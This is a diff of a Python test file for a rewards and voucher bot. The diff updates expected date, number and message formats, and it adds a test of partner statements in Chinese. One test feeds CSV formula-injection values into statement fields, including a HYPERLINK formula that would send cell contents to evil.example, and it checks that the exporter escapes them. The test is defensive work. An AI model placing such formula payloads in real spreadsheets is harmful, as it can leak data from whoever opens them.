@@ -41,12 +41,12 @@ async def give_points(harness, talent, points):
     await harness.services.points.adjust(admin, talent.id, points, "Seed points")
 
 
-async def partner_of(harness, station, name="Desk"):
+async def partner_of(harness, station, name="Desk", language="en"):
     admin = await harness.services.people.viewer(ADMIN_ID, "en")
     invitation = await harness.services.admin.create_invitation(
         admin, station_id=station.id, role=RoleName.PARTNER
     )
-    user = harness.user(name)
+    user = harness.user(name, language=language)
     await user.send(f"/start inv-{invitation.token}")
     return user
 
@@ -145,7 +145,7 @@ async def test_the_desk_verifies_once(harness, shop):
     await desk.tap("✅ Yes, mark it used")
     assert desk.alerts()[-1] == "Marked used."
     await desk.send(f"/start v-{voucher.code}")
-    assert "Status: ☑️ already used on 11/26/26" in desk.last_text()
+    assert "Status: ☑️ already used on Nov 26, 2026, 10:00" in desk.last_text()
     assert "(by Desk)" in desk.last_text()
     assert desk.inline_buttons() == []
     await desk.press(once(f"vc:use:{voucher.code}"), forge=True)
@@ -218,10 +218,10 @@ async def test_admin_adds_a_reward_with_hostile_input_at_every_field(harness):
         ("description_zh", "y" * 600, "That is too long", "双人房"),
         ("description_en", "   ", "This can't be empty.", "Double room"),
         ("station_id", "Spa hotel", "Please use the buttons below.", None),
-        ("cost", "0", "Please type a whole number from 1 to 1000000.", "50"),
-        ("stock", "-3", "Please type a whole number from 0 to 100000.", "3"),
-        ("per_talent_limit", "abc", "Please type a whole number from 0 to 1000.", "1"),
-        ("valid_days", "99999", "Please type a whole number from 1 to 3650.", "30"),
+        ("cost", "0", "Please type a whole number from 1 to 1,000,000.", "50"),
+        ("stock", "-3", "Please type a whole number from 0 to 100,000.", "3"),
+        ("per_talent_limit", "abc", "Please type a whole number from 0 to 1,000.", "1"),
+        ("valid_days", "99999", "Please type a whole number from 1 to 3,650.", "30"),
     ]
     for field, bad, explanation, good in answers:
         await admin.send_sticker()
@@ -278,12 +278,19 @@ async def test_partner_statement(harness, shop):
     await desk.tap("☑️ Mark used")
     await desk.tap("✅ Yes, mark it used")
     await desk.send("/statement")
-    await desk.tap("Spa hotel · 2026-11")
-    assert desk.texts()[-2] == ("Spa hotel, 2026-11: 1 vouchers used, 50 points. The CSV follows.")
+    await desk.tap("Spa hotel · November 2026")
+    assert desk.texts()[-2] == (
+        "Spa hotel, November 2026: vouchers used: 1; points in total: 50. "
+        "The spreadsheet (CSV) follows."
+    )
     document = harness.api.bot_messages(desk.id)[-1]["document"]
+    assert document["file_name"] == "statement-Spa hotel-2026-11.csv"
     content = harness.api.file_bytes(document["file_id"]).decode("utf-8-sig")
-    assert content.splitlines()[0] == "code,used_at,reward_zh,reward_en,talent,points"
-    assert show_code(voucher.code) in content and "温泉酒店一晚" in content
+    assert content.splitlines() == [
+        "Voucher code,Used at,Reward,Holder,Points",
+        f'{show_code(voucher.code)},"Nov 26, 2026, 10:00\u202fAM",A night at the spa hotel,'
+        "Talent 501,50",
+    ]
     other = await partner_of(harness, await add_station(harness, "Scenic", "景区"), name="O")
     await other.press(f"st:{hotel.id}:2026:11", forge=True)
     assert other.alerts()[-1] == "Sorry, you are not allowed to do that."
@@ -308,18 +315,45 @@ async def test_statement_cells_never_run_as_formulas(harness, shop):
         await desk.tap("☑️ Mark used")
         await desk.tap("✅ Yes, mark it used")
     await desk.send("/statement")
-    await desk.tap("Spa hotel · 2026-11")
+    await desk.tap("Spa hotel · November 2026")
     document = harness.api.bot_messages(desk.id)[-1]["document"]
     content = harness.api.file_bytes(document["file_id"]).decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(content)))
-    assert [row[4] for row in rows[1:]] == [
+    assert [row[3] for row in rows[1:]] == [
         '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
         "'@SUM(A1:A9)",
         "'-2+3",
         "Wang Li",
     ]
-    assert {row[3] for row in rows[1:]} == {"'+SUM(1,2)"}
-    assert {row[5] for row in rows[1:]} == {"50"}
+    assert {row[2] for row in rows[1:]} == {"'+SUM(1,2)"}
+    assert {row[4] for row in rows[1:]} == {"50"}
+
+
+async def test_a_chinese_partner_reads_the_statement_in_chinese(harness):
+    # A station's name may hold what no file name may, such as a slash.
+    hotel = await add_station(harness, "Spa hotel", "温泉/酒店")
+    admin = await harness.services.people.viewer(ADMIN_ID, "en")
+    reward = await harness.services.rewards.add(admin, {**REWARD, "station_id": hotel.id})
+    talent = await seed_talent(harness, 501)
+    await harness.services.people.update_profile(talent.id, {"name": "王丽"})
+    await give_points(harness, talent, 50)
+    _, voucher, _ = await harness.services.rewards.redeem(talent.id, reward.id)
+    desk = await partner_of(harness, hotel, name="前台小李", language="zh")
+    await desk.send(f"/verify {voucher.code}")
+    await desk.tap("☑️ 核销")
+    await desk.tap("✅ 确认核销")
+    await desk.send("/statement")
+    await desk.tap("温泉/酒店 · 2026年11月")
+    assert desk.texts()[-2] == (
+        "温泉/酒店 2026年11月：共核销兑换券 1 张，合计 50 积分。明细表格随后发送。"
+    )
+    document = harness.api.bot_messages(desk.id)[-1]["document"]
+    assert document["file_name"] == "结算单-温泉-酒店-2026-11.csv"
+    content = harness.api.file_bytes(document["file_id"]).decode("utf-8-sig")
+    assert content.splitlines() == [
+        "券码,核销时间,兑换品,持券人,积分",
+        f"{show_code(voucher.code)},2026年11月26日 10:00,温泉酒店一晚,王丽,50",
+    ]
 
 
 async def test_the_application_expires_vouchers_at_start_and_every_hour(harness, shop):
@@ -440,7 +474,10 @@ async def test_a_forged_statement_button_is_an_old_button(harness, shop, data):
     admin = harness.admin()
     await admin.send("/statement")
     await admin.press(data.format(station=hotel.id), forge=True)
-    assert admin.alerts()[-1] == "That button belongs to an earlier message."
+    assert (
+        admin.alerts()[-1]
+        == "That button has expired; please use the buttons of the newest message."
+    )
     assert not any(m.get("document") for m in harness.api.bot_messages(admin.id))
 
 
@@ -455,7 +492,9 @@ async def test_verify_asks_for_the_code(harness, shop):
     await desk.send_sticker()
     assert desk.last_text().startswith("Please type the code as text.")
     await desk.press("rw:view:1", forge=True)
-    assert desk.last_text().startswith("That button belongs to an earlier message.")
+    assert desk.last_text().startswith(
+        "That button has expired; please use the buttons of the newest message."
+    )
     await desk.send(show_code(voucher.code).lower())
     assert desk.last_text().startswith("🎟 A night at the spa hotel\nFor: Talent 501")
     await desk.send("hello")  # the question is over
